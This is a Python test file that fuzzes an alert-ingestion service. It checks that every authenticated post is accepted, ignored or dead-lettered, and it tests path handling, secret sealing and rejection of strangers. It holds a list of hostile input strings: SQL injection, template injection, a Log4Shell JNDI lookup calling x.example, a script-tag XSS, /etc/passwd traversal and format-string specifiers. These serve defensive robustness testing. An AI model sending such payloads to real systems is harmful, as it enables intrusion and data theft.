"""Whatever an authenticated sender posts is accepted, ignored, or a dead letter: never a 500, never lost."""

import json
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from schemas.events import AlertReceived, DeadLettered
from tests.unit.intake.station import KINDS, MINUTE, PAGE, Station, bearer, token_of

MIB = 1024 * 1024
WAYS = [(name, f"/ingest/{PAGE}/{name}") for name in KINDS] + [("prom", f"/ingest/{PAGE}/prom/api/v2/alerts")]
every_way = pytest.mark.parametrize(("source", "path"), WAYS, ids=[path for _, path in WAYS])
# The log grows over the examples of a test, as it does in life.
fuzz = settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])

NASTY = [
    "'; drop table log; --",
    '" or ""="',
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${jndi:ldap://x.example/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%s%s%n",
    "\x00",
    "\u202e\u0000\ufffe",
    "a/b/c",
    "\x1f",
    "💥" * 500,
    "x" * 20_000,
]
FIXTURES = sorted(
    path
    for path in (Path(__file__).parents[2] / "fixtures" / "sources").rglob("*.json")
    if not path.name.endswith(".expected.json")
)

texts = st.sampled_from(NASTY) | st.text(max_size=20)
scalars = st.none() | st.booleans() | st.integers() | st.floats() | texts
keys = st.sampled_from(
    "alerts status labels annotations startsAt endsAt fingerprint id title severity starts_at ends_at check_id current_state "
    "event_action dedup_key payload summary source routing_key generatorURL test".split()
)
bodies = st.recursive(
    scalars,
    lambda inside: st.lists(inside, max_size=4) | st.dictionaries(keys | texts, inside, max_size=6),
    max_leaves=25,
)


@st.composite
def garbled(draw: st.DrawFn) -> bytes:
    """Return a real body with a piece replaced."""
    body = draw(st.sampled_from(FIXTURES)).read_bytes()
    start = draw(st.integers(0, len(body)))
    end = draw(st.integers(start, min(len(body), start + 40)))
    piece = draw(st.binary(max_size=10) | texts.map(lambda text: json.dumps(text).encode()))
    return body[:start] + piece + body[end:]


async def post(station: Station, client: httpx.AsyncClient, source: str, path: str, body: bytes) -> None:
    """Post a body and hold the answer against what lies on the log."""
    letters, alerts = len(station.of(DeadLettered)), len(station.of(AlertReceived))
    answer = await client.post(path, content=body, headers=bearer(token_of(source)))
    new_letters, new_alerts = len(station.of(DeadLettered)) - letters, len(station.of(AlertReceived)) - alerts
    if path.endswith("api/v2/alerts"):
        assert (answer.status_code, answer.content) == (200, b"")
        return
    assert answer.status_code == 202
    said = answer.json()
    assert said["accepted"] + said["ignored"] + said["deadlettered"] >= 1, "a body came to nothing at all"
    assert new_alerts == said["accepted"]
    assert new_letters <= said["deadlettered"]
    assert set(said["events"]) <= {event.id for event in station.events()}


@every_way
@fuzz
@given(body=st.binary(max_size=200) | bodies.map(lambda value: json.dumps(value).encode()) | garbled())
async def test_any_body(station: Station, client: httpx.AsyncClient, source: str, path: str, body: bytes) -> None:
    station.now += MINUTE
    await post(station, client, source, path, body)


@every_way
@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"null",
        b"NaN",
        b'[{"labels": {"a": NaN}}]',
        b'{"id": 1e999}',
        b"9" * 10_000,
        b"[" * 200_000,
        b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        b"\xff\xfe\x00",
        b'{"id": "\xff\xff", "status": "firing"}',
        b'{"id": "\\ud800", "status": "firing"}',
        b'{"id": "a"}' * 2,
        b"a=1&b=2",
        b"[" + b"{}," * 60_000 + b"{}]",
        b"[" + b",".join([b'{"id":"%d","status":"down"}' % number for number in range(3_000)]) + b"]",
        b'{"alerts": [' + b'{"labels": {"a": "' + b"x" * MIB + b'"}, "status": "firing"}' + b"]}",
        b" " * (5 * MIB),
    ],
    ids=lambda body: f"{len(body)} bytes {body[:16]!r}",
)
async def test_a_hostile_body(station: Station, client: httpx.AsyncClient, source: str, path: str, body: bytes) -> None:
    await post(station, client, source, path, body)


@pytest.mark.parametrize("nasty", NASTY, ids=lambda text: repr(text[:12]))
async def test_texts_that_attack_other_layers_arrive_as_they_are(
    station: Station, client: httpx.AsyncClient, nasty: str
) -> None:
    labels = {"service": "api", "region": "eu", "severity": "critical", "note": nasty[:1000]}
    alert: dict[str, Any] = {"id": nasty, "status": "firing", "title": nasty, "labels": labels}
    await post(station, client, "other", "/ingest/acme/other", json.dumps([alert]).encode())
    [received] = station.of(AlertReceived)
    assert received.labels["note"] == nasty[:1000]
    station.backend.settle()
    answer = await client.post("/ingest/acme/other", json=[alert], headers=bearer(token_of("other")))
    assert answer.json()["ignored"] == 1, "the instance is found again under its own name"


@pytest.mark.parametrize("name", ["nobody", "'; drop table log; --", "../..", "\x00", "💥", "{{7*7}}", "a" * 9_000])
async def test_a_nasty_name_in_the_path_is_a_404(client: httpx.AsyncClient, name: str) -> None:
    name = quote(name, safe="")
    for path in (f"/ingest/acme/{name}", f"/ingest/{name}/other", f"/ingest/acme/other/{name}"):
        assert (await client.post(path, json={}, headers=bearer(token_of("other")))).status_code == 404


async def test_the_same_poison_is_kept_once_a_day(station: Station, client: httpx.AsyncClient) -> None:
    for _ in range(5):
        await post(station, client, "other", "/ingest/acme/other", b"poison")
    assert station.letters() == [b"poison"]
    station.now += 24 * 60 * MINUTE
    await post(station, client, "other", "/ingest/acme/other", b"poison")
    assert station.letters() == [b"poison", b"poison"]


async def test_a_dead_letter_is_sealed_and_says_what_it_is(station: Station, client: httpx.AsyncClient) -> None:
    headers = bearer(token_of("other")) | {"Content-Type": "text/plain; charset=utf-8"}
    await client.post("/ingest/acme/other", content=b"password=hunter2", headers=headers)
    [letter] = station.of(DeadLettered)
    assert b"hunter2" not in letter.body
    assert "hunter2" not in letter.reason
    assert (letter.source, letter.size, letter.content_type) == ("other", 16, "text/plain; charset=utf-8")
    assert letter.expires_at == station.now + 30 * 24 * 60 * MINUTE
    assert station.letters() == [b"password=hunter2"]
    station.backend.vault.erase(letter.key_id)
    with pytest.raises(LookupError):
        station.letters()


@fuzz
@given(body=st.binary(max_size=100) | bodies.map(lambda value: json.dumps(value).encode()))
async def test_strangers_reach_nothing(station: Station, client: httpx.AsyncClient, body: bytes) -> None:
    before = len(station.events())
    for path, status in (("/v2/enqueue", 400), ("/ingest/acme/other", 401), ("/ingest/acme/other?token=x", 401)):
        assert (await client.post(path, content=body)).status_code == status
    assert len(station.events()) == before
